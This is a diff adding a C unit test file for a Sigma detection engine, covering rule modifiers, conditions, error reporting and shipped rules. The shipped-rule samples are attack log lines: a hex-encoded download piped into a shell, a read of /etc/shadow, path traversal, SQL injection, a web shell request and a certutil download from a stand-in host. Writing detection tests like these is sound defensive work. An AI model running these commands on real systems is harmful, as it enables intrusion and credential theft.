@@ -1,0 +1,457 @@
+/*
+ * test_detect_rules.c: Sigma rules as the engine must read them: each
+ * modifier and condition form on project-written rules and events, the
+ * refusals with their place and reason, the shipped rules against a
+ * positive event each, and (when ../shared/data is there) every SigmaHQ
+ * rule loaded and every SigmaHQ regression event matched by its rule.
+ */
+#include <dirent.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "detect/parse.h"
+#include "detect/rules.h"
+#include "helpers.h"
+
+static const det_syslog_opts OPTS = {2026, 420};
+static det_event ev;
+
+/* Titles matched, joined by ';'. */
+static char hits[4096];
+
+static void collect(void *ctx, const det_rule *r, const det_event *e)
+{
+	(void)ctx, (void)e;
+	if (hits[0])
+		strcat(hits, ";");
+	strncat(hits, r->title, sizeof hits - strlen(hits) - 2);
+}
+
+static det_rules *rules_of(const char *yaml)
+{
+	det_rules *rs = det_rules_new();
+	diags d = DIAGS_INIT;
+	int n = det_rules_add(rs, yaml, strlen(yaml), "test.yml", &d);
+	if (d.n)
+		fail_msg("%s:%d:%d: %s", d.v[0].file, d.v[0].line, d.v[0].col, d.v[0].msg);
+	assert_true(n > 0);
+	assert_int_equal(det_rules_compile(rs, &d), 0);
+	diags_free(&d);
+	return rs;
+}
+
+static const char *run(det_rules *rs, const char *line)
+{
+	const char *why;
+	hits[0] = '\0';
+	det_matcher *m = det_matcher_new(rs);
+	if (det_parse_line(line, strlen(line), &OPTS, &ev, &why) != 0)
+		fail_msg("line not parsed: %s", why);
+	det_match(m, &ev, collect, NULL);
+	det_matcher_free(m);
+	return hits;
+}
+
+/* A JSON-lines rule: logsource json via the mapping's format entry is
+ * not there, so these rules use the Windows process_creation source. */
+#define PC "logsource: {product: windows, category: process_creation}\n"
+#define SYSMON "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1"
+
+static void event_json(char *out, size_t n, const char *image, const char *cmd)
+{
+	snprintf(out, n,
+	         "{\"Event\":{\"System\":{" SYSMON
+	         "},\"EventData\":{\"Image\":\"%s\",\"CommandLine\":\"%s\",\"ProcessId\":\"4242\","
+	         "\"User\":\"KAB\\\\budi\",\"ParentUser\":\"KAB\\\\budi\"}}}",
+	         image, cmd);
+}
+
+static void modifiers(void **state)
+{
+	(void)state;
+	det_rules *rs = rules_of(
+	    "title: plain\n" PC
+	    "detection: {sel: {Image: 'C:\\Windows\\System32\\cmd.exe'}, condition: sel}\n"
+	    "---\ntitle: wildcard\n" PC "detection: {sel: {Image: '*\\cm?.exe'}, condition: sel}\n"
+	    "---\ntitle: contains\n" PC
+	    "detection: {sel: {CommandLine|contains: 'WHOAMI'}, condition: sel}\n"
+	    "---\ntitle: startswith\n" PC
+	    "detection: {sel: {CommandLine|startswith: 'cmd /c'}, condition: sel}\n"
+	    "---\ntitle: endswith-list\n" PC "detection: {sel: {Image|endswith: "
+	                                     "['\\powershell.exe', '\\cmd.exe']}, condition: sel}\n"
+	    "---\ntitle: all\n" PC
+	    "detection: {sel: {CommandLine|contains|all: ['whoami', '/priv']}, condition: sel}\n"
+	    "---\ntitle: all-missing\n" PC
+	    "detection: {sel: {CommandLine|contains|all: ['whoami', '/groups']}, condition: sel}\n"
+	    "---\ntitle: cased\n" PC
+	    "detection: {sel: {CommandLine|contains|cased: 'WHOAMI'}, condition: sel}\n"
+	    "---\ntitle: re\n" PC
+	    "detection: {sel: {CommandLine|re: 'who[a-z]{2}i /pr'}, condition: sel}\n"
+	    "---\ntitle: re-case\n" PC
+	    "detection: {sel: {CommandLine|re: 'WHOAMI'}, condition: sel}\n"
+	    "---\ntitle: re-i\n" PC
+	    "detection: {sel: {CommandLine|re|i: 'WHOAMI'}, condition: sel}\n"
+	    "---\ntitle: windash\n" PC
+	    "detection: {sel: {CommandLine|windash|contains: ' -priv'}, condition: sel}\n"
+	    "---\ntitle: exists\n" PC "detection: {sel: {ProcessId|exists: true}, condition: sel}\n"
+	    "---\ntitle: not-exists\n" PC
+	    "detection: {sel: {LogonId|exists: false}, condition: sel}\n"
+	    "---\ntitle: gt\n" PC "detection: {sel: {ProcessId|gt: 4000}, condition: sel}\n"
+	    "---\ntitle: lte\n" PC "detection: {sel: {ProcessId|lte: 4000}, condition: sel}\n"
+	    "---\ntitle: null\n" PC "detection: {sel: {LogonId: null}, condition: sel}\n"
+	    "---\ntitle: fieldref\n" PC
+	    "detection: {sel: {User|fieldref: ParentUser}, condition: sel}\n"
+	    "---\ntitle: neq\n" PC
+	    "detection: {sel: {Image|neq: 'C:\\Windows\\System32\\cmd.exe'}, condition: sel}\n"
+	    "---\ntitle: any\n" PC "detection: {sel: {Image: '*'}, condition: sel}\n"
+	    "---\ntitle: keyword\n" PC
+	    "detection: {keywords: ['nothing-here', 'whoami /PRIV'], condition: keywords}\n");
+	char line[1024];
+	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.exe",
+	           "cmd /c whoami /priv");
+	assert_string_equal(run(rs, line),
+	                    "plain;wildcard;contains;startswith;endswith-list;all;re;re-i;"
+	                    "windash;exists;not-exists;gt;null;fieldref;any;keyword");
+	/* The same command with a slash flag written as a dash, another image. */
+	event_json(line, sizeof line, "C:\\\\Tools\\\\PowerShell.EXE", "powershell /priv WHOAMI");
+	assert_string_equal(run(rs, line),
+	                    "contains;endswith-list;all;cased;re-case;re-i;windash;exists;"
+	                    "not-exists;gt;null;fieldref;neq;any");
+	det_rules_free(rs);
+}
+
+static void encodings_and_networks(void **state)
+{
+	(void)state;
+	det_rules *rs = rules_of(
+	    "title: b64off\n" PC
+	    "detection: {sel: {CommandLine|base64offset|contains: 'http://'}, condition: sel}\n"
+	    "---\ntitle: b64\n" PC
+	    "detection: {sel: {CommandLine|base64|contains: 'whoami'}, condition: sel}\n"
+	    "---\ntitle: wide-b64\n" PC
+	    "detection: {sel: {CommandLine|wide|base64offset|contains: 'iex'}, condition: sel}\n"
+	    "---\ntitle: cidr\n" PC
+	    "detection: {sel: {SourceIp|cidr: ['10.0.0.0/8', '2001:db8::/32']}, condition: sel}\n");
+	char line[1024];
+	/* base64("xhttp://a") = eGh0dHA6Ly9h: the value at offset 1. */
+	event_json(line, sizeof line, "C:\\\\x.exe", "powershell -e eGh0dHA6Ly9h");
+	assert_string_equal(run(rs, line), "b64off");
+	/* base64("whoami") = d2hvYW1p */
+	event_json(line, sizeof line, "C:\\\\x.exe", "x d2hvYW1p");
+	assert_string_equal(run(rs, line), "b64");
+	/* base64 of UTF-16LE "iex" at offset 0: aQBlAHgA */
+	event_json(line, sizeof line, "C:\\\\x.exe", "powershell -enc aQBlAHgA");
+	assert_string_equal(run(rs, line), "wide-b64");
+	snprintf(line, sizeof line,
+	         "{\"Event\":{\"System\":{" SYSMON
+	         "},\"EventData\":{\"SourceIp\":\"10.20.30.40\"}}}");
+	assert_string_equal(run(rs, line), "cidr");
+	snprintf(line, sizeof line,
+	         "{\"Event\":{\"System\":{" SYSMON
+	         "},\"EventData\":{\"SourceIp\":\"2001:db8:1::5\"}}}");
+	assert_string_equal(run(rs, line), "cidr");
+	snprintf(line, sizeof line,
+	         "{\"Event\":{\"System\":{" SYSMON "},\"EventData\":{\"SourceIp\":\"11.0.0.1\"}}}");
+	assert_string_equal(run(rs, line), "");
+	det_rules_free(rs);
+}
+
+static void conditions(void **state)
+{
+	(void)state;
+	det_rules *rs = rules_of(
+	    "title: one-of\n" PC "detection:\n  sel_a: {Image|endswith: '\\a.exe'}\n  sel_b: "
+	                         "{Image|endswith: '\\cmd.exe'}\n  condition: 1 of sel_*\n"
+	    "---\ntitle: all-of\n" PC
+	    "detection:\n  sel_a: {Image|endswith: '\\cmd.exe'}\n  sel_b: {CommandLine|contains: "
+	    "whoami}\n  condition: all of sel_*\n"
+	    "---\ntitle: not-filter\n" PC
+	    "detection:\n  sel: {Image|endswith: '\\cmd.exe'}\n  filter_main: "
+	    "{CommandLine|contains: whoami}\n  condition: sel and not 1 of filter_main*\n"
+	    "---\ntitle: parens\n" PC
+	    "detection:\n  a: {Image|endswith: '\\cmd.exe'}\n  b: {CommandLine|contains: nope}\n  "
+	    "c: {CommandLine|contains: priv}\n  condition: a and (b or c)\n"
+	    "---\ntitle: them\n" PC "detection:\n  a: {Image|endswith: '\\cmd.exe'}\n  _hidden: "
+	                            "{CommandLine|contains: nope}\n  condition: all of them\n"
+	    "---\ntitle: list\n" PC "detection:\n  a: {Image|endswith: '\\nope.exe'}\n  b: "
+	                            "{CommandLine|contains: whoami}\n  condition: [a, b]\n"
+	    "---\ntitle: only-not\n" PC
+	    "detection:\n  a: {Image|endswith: '\\nope.exe'}\n  condition: not a\n"
+	    "---\ntitle: list-of-maps\n" PC
+	    "detection:\n  a:\n    - {Image|endswith: '\\nope.exe'}\n    - {CommandLine|contains: "
+	    "whoami}\n  condition: a\n"
+	    "---\ntitle: precedence\n" PC
+	    "detection:\n  a: {Image|endswith: '\\nope.exe'}\n  b: {CommandLine|contains: "
+	    "whoami}\n  c: {CommandLine|contains: nope}\n  condition: a and b or not c\n");
+	char line[1024];
+	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.exe",
+	           "cmd /c whoami /priv");
+	assert_string_equal(run(rs, line),
+	                    "one-of;all-of;parens;them;list;only-not;list-of-maps;precedence");
+	/* Another logsource: none of these rules may fire, even "not a". */
+	assert_string_equal(run(rs, "Nov 23 08:00:01 web01 sshd[1]: Accepted password for budi "
+	                            "from 10.0.0.1 port 1 ssh2"),
+	                    "");
+	det_rules_free(rs);
+}
+
+static void refusals(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *yaml, *want;
+	} cases[] = {
+	    {"title: x\n" PC "detection:\n  sel:\n    Image|nosuch: a\n  condition: sel\n",
+	     "test.yml:5:5: unknown modifier 'nosuch'"},
+	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: sel and other\n",
+	     "test.yml:5:14: condition: unknown selection 'other'"},
+	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: sel | count() > 5\n",
+	     "aggregations"},
+	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: (sel\n", "missing ')'"},
+	    {"title: x\n" PC "detection:\n  sel: {Image|re: 'a(b'}\n",
+	     "regular expression: missing closing parenthesis"},
+	    {PC "detection:\n  sel: {Image: a}\n  condition: sel\n", "the rule has no title"},
+	    {"title: x\n" PC "detection:\n  sel: {Image|expand: '%Admins%'}\n  condition: sel\n",
+	     "placeholders"},
+	    {"title: x\n" PC "level: severe\ndetection:\n  sel: {Image: a}\n  condition: sel\n",
+	     "unknown level 'severe'"},
+	    {"title: x\n" PC "detection:\n  sel: {Image|contains|all: a}\n  condition: sel\n",
+	     "all needs a list"},
+	    {"title: x\n" PC "detection:\n  sel: {Ip|cidr: '10.0.0.0/33'}\n  condition: sel\n",
+	     "not an address range"},
+	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n", "no condition"},
+	    {"title: x\ncorrelation: {type: event_count}\n",
+	     "correlation rules are not supported yet"},
+	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: 1 of nothing*\n",
+	     "no selection matches 'nothing*'"},
+	};
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		det_rules *rs = det_rules_new();
+		diags d = DIAGS_INIT;
+		const char *good =
+		    "title: good\n" PC "detection: {sel: {Image: a}, condition: sel}\n";
+		char text[2048];
+		snprintf(text, sizeof text, "%s---\n%s", cases[i].yaml, good);
+		int n = det_rules_add(rs, text, strlen(text), "test.yml", &d);
+		assert_int_equal(n, 1); /* the bad rule is skipped, the good one kept */
+		assert_int_equal(d.n, 1);
+		char got[600];
+		snprintf(got, sizeof got, "%s:%d:%d: %s", d.v[0].file, d.v[0].line, d.v[0].col,
+		         d.v[0].msg);
+		if (strstr(got, cases[i].want) == NULL)
+			fail_msg("case %zu: got \"%s\", want \"%s\"", i, got, cases[i].want);
+		assert_string_equal(det_rules_get(rs, 0)->title, "good");
+		diags_free(&d);
+		det_rules_free(rs);
+	}
+}
+
+/* The shipped rules: all load, and each fires on its own sample. */
+static void shipped(void **state)
+{
+	(void)state;
+	det_rules *rs = det_rules_new();
+	diags d = DIAGS_INIT;
+	int n = det_rules_add_builtin(rs, &d);
+	assert_int_equal(d.n, 0);
+	assert_true(n >= 16);
+	assert_int_equal(det_rules_compile(rs, &d), 0);
+	assert_int_equal(det_rules_unmapped(rs), 0);
+	static const struct {
+		const char *line, *title;
+	} samples[] = {
+	    {"Nov 23 08:00:01 web01 sshd[812]: Accepted password for root from 203.0.113.9 port "
+	     "50122 ssh2",
+	     "Root Login over SSH Accepted"},
+	    {"Nov 23 08:00:01 web01 sshd[812]: Invalid user oracle from 203.0.113.9 port 50122",
+	     "SSH Login Attempt with an Unknown Account"},
+	    {"Nov 23 08:00:01 web01 sshd[812]: reverse mapping checking getaddrinfo for x.example "
+	     "[203.0.113.9] failed - POSSIBLE BREAK-IN ATTEMPT!",
+	     "SSH Reverse Mapping Failure (\"POSSIBLE BREAK-IN ATTEMPT\")"},
+	    {"Nov 23 08:00:01 web01 sudo[9]: tamu : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; "
+	     "USER=root ; COMMAND=/bin/bash",
+	     "Sudo Refused for a User Not in sudoers"},
+	    {"Nov 23 08:00:01 web01 sudo[9]: budi : TTY=pts/0 ; PWD=/home/budi ; USER=root ; "
+	     "COMMAND=/bin/bash",
+	     "Interactive Root Shell through Sudo"},
+	    {"Nov 23 08:00:01 web01 su[9]: FAILED SU (to root) budi on pts/0", "Failed su to root"},
+	    {"Nov 23 08:00:01 web01 useradd[9]: new user: name=backup2, UID=0, GID=0, home=/root, "
+	     "shell=/bin/bash",
+	     "Account Created with User ID 0"},
+	    {"type=EXECVE msg=audit(1764000000.123:77): argc=3 a0=\"bash\" a1=\"-c\" "
+	     "a2=6375726C20687474703A2F2F782F61207C207368",
+	     "Download Piped into a Shell"},
+	    {"type=EXECVE msg=audit(1764000000.123:78): argc=2 a0=\"cat\" a1=\"/etc/shadow\"",
+	     "Password Hash File Read by a Command"},
+	    {"203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET /index.php?page=../../etc/passwd "
+	     "HTTP/1.1\" 200 512 \"-\" \"curl/8\"",
+	     "Path Traversal in a Web Request"},
+	    {"203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET /berita.php?id=1+union+select+1,2 "
+	     "HTTP/1.1\" 200 512 \"-\" \"-\"",
+	     "SQL Injection Attempt in a Web Request"},
+	    {"203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET / HTTP/1.1\" 200 512 \"-\" "
+	     "\"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
+	     "Web Vulnerability Scanner User-Agent"},
+	    {"Nov 23 08:00:01 web01 nginx: 203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET "
+	     "/uploads/x.php?cmd=whoami HTTP/1.1\" 200 12 \"-\" \"-\"",
+	     "Web Shell Command in a Request"},
+	    {"{\"Event\":{\"System\":{" SYSMON
+	     "},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1."
+	     "0\\\\powershell.exe\",\"CommandLine\":\"powershell.exe -NoP -enc SQBFAFgA\"}}}",
+	     "PowerShell Started with an Encoded Command"},
+	    {"{\"win\":{\"system\":{\"channel\":\"Microsoft-Windows-Sysmon/"
+	     "Operational\",\"eventID\":\"1\"},\"eventdata\":{\"image\":\"C:"
+	     "\\\\\\\\Windows\\\\\\\\System32\\\\\\\\certutil.exe\",\"commandLine\":\"certutil "
+	     "-urlcache -f http://203.0.113.9/a.exe a.exe\"}}}",
+	     "Certutil Used to Download a File"},
+	    {"CEF:0|Fortinet|FortiWeb|7.0|20000010|SQL Injection|8|src=203.0.113.9 dst=10.1.1.5 "
+	     "act=blocked request=/login",
+	     "Firewall or WAF Blocked a High-Severity Attack"},
+	};
+	for (size_t i = 0; i < sizeof samples / sizeof samples[0]; i++) {
+		const char *got = run(rs, samples[i].line);
+		if (strcmp(got, samples[i].title) != 0)
+			fail_msg("sample %zu: got \"%s\", want \"%s\"", i, got, samples[i].title);
+	}
+	/* Every shipped rule has a sample above. */
+	assert_int_equal(det_rules_count(rs), sizeof samples / sizeof samples[0]);
+	/* Benign lines of the same kinds fire nothing. */
+	assert_string_equal(run(rs, "Nov 23 08:00:01 web01 sshd[812]: Accepted publickey for budi "
+	                            "from 10.0.0.9 port 50122 ssh2"),
+	                    "");
+	assert_string_equal(
+	    run(rs, "203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET /berita/2026/11/rapat.html "
+	            "HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\""),
+	    "");
+	diags_free(&d);
+	det_rules_free(rs);
+}
+
+struct by_id {
+	const char *id;
+	int n;
+};
+
+static void count_id(void *ctx, const det_rule *r, const det_event *e)
+{
+	struct by_id *c = ctx;
+	(void)e;
+	if (r->id && strcmp(r->id, c->id) == 0)
+		c->n++;
+}
+
+static char shared_dir[1024];
+
+static bool have_shared(void)
+{
+	snprintf(shared_dir, sizeof shared_dir, "%s/../shared/data/sigma", SIGAP_SOURCE_ROOT);
+	DIR *dh = opendir(shared_dir);
+	if (dh == NULL)
+		return false;
+	closedir(dh);
+	return true;
+}
+
+/* All SigmaHQ rules load (or are reported with a reason); every
+ * regression event matches its rule at least match_count times. */
+static void sigmahq(void **state)
+{
+	(void)state;
+	if (!have_shared()) {
+		print_message("../shared/data absent: SigmaHQ rules not checked\n");
+		skip();
+	}
+	det_rules *rs = det_rules_new();
+	diags d = DIAGS_INIT;
+	d.limit = 100000;
+	char path[1200];
+	snprintf(path, sizeof path, "%s/rules", shared_dir);
+	int n = det_rules_add_path(rs, path, &d);
+	print_message("SigmaHQ: %d rules loaded, %zu reported\n", n, d.n);
+	for (size_t i = 0; i < d.n; i++)
+		print_message("  %s:%d: %s\n", d.v[i].file, d.v[i].line, d.v[i].msg);
+	assert_int_equal((size_t)n + d.n, 1590);
+	assert_int_equal(det_rules_compile(rs, &d), 0);
+	det_matcher *m = det_matcher_new(rs);
+	char cmd[1400];
+	snprintf(cmd, sizeof cmd, "find %s/regression_data -name info.yml | sort", shared_dir);
+	FILE *list = popen(cmd, "r");
+	char info[1200];
+	int checked = 0;
+	while (fgets(info, sizeof info, list)) {
+		info[strcspn(info, "\n")] = '\0';
+		size_t len;
+		char *yml = read_all(info, &len);
+		assert_non_null(yml);
+		char id[64] = "", *p = strstr(yml, "rule_metadata:");
+		if (p && (p = strstr(p, "id: ")))
+			sscanf(p + 4, "%63s", id);
+		int want = 1;
+		if ((p = strstr(yml, "\n      match_count: ")))
+			want = atoi(p + 20);
+		free(yml);
+		/* The event file sits next to info.yml, named by the rule id. */
+		char json[1300];
+		snprintf(json, sizeof json, "%.*s/%s.json", (int)(strrchr(info, '/') - info), info,
+		         id);
+		char *text = read_all(json, &len);
+		if (text == NULL)
+			continue; /* the cisco case is a raw line, not tested upstream */
+		/* One or more pretty-printed objects: split where braces balance. */
+		int got = 0, depth = 0;
+		bool in_str = false, esc = false;
+		size_t start = 0;
+		for (size_t i = 0; i < len; i++) {
+			char ch = text[i];
+			if (in_str) {
+				if (esc)
+					esc = false;
+				else if (ch == '\\')
+					esc = true;
+				else if (ch == '"')
+					in_str = false;
+				continue;
+			}
+			if (ch == '"')
+				in_str = true;
+			else if (ch == '{' && depth++ == 0)
+				start = i;
+			else if (ch == '}' && --depth == 0) {
+				const char *why;
+				assert_int_equal(
+				    det_parse_line(text + start, i + 1 - start, &OPTS, &ev, &why),
+				    0);
+				struct by_id c = {id, 0};
+				det_match(m, &ev, count_id, &c);
+				got += c.n;
+			}
+		}
+		free(text);
+		if (got < want)
+			fail_msg("%s: rule %s matched %d of %d events", json, id, got, want);
+		checked++;
+	}
+	pclose(list);
+	print_message("SigmaHQ regression: %d events files, each matched by its rule\n", checked);
+	assert_true(checked >= 80);
+	det_matcher_free(m);
+	diags_free(&d);
+	det_rules_free(rs);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(modifiers),  cmocka_unit_test(encodings_and_networks),
+	    cmocka_unit_test(conditions), cmocka_unit_test(refusals),
+	    cmocka_unit_test(shipped),    cmocka_unit_test(sigmahq),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
